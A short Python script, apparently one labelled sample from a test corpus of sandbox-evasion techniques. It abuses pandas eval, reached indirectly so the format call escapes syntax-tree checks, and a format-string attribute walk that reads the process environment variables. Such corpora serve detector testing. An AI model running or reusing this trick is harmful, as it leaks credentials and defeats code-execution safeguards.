# class: format_lookup
# technique: the template's bound format method called in expression text (@t.format(@o[0])): the format call never appears as a node (DataFrame.eval reached as functools.partial(frame.agg, 'eval')(...))
# goal: read
import numpy as np
import pandas as pd

frame = pd.DataFrame({"x": np.arange(2)})
import functools


def ev(expr, **names):
    return functools.partial(frame.agg, "eval")(0, expr, local_dict=names)

u = "_" * 2
template = "{0." + u + "init" + u + "." + u + "globals" + u + "[sys].modules[os].environ}"

leak = ev("@t.format(@o[0])", t=template, o=[np.vectorize])
if not str(leak).startswith("environ("):
    raise RuntimeError("no environment")
df = pd.DataFrame({"environ": [leak]})
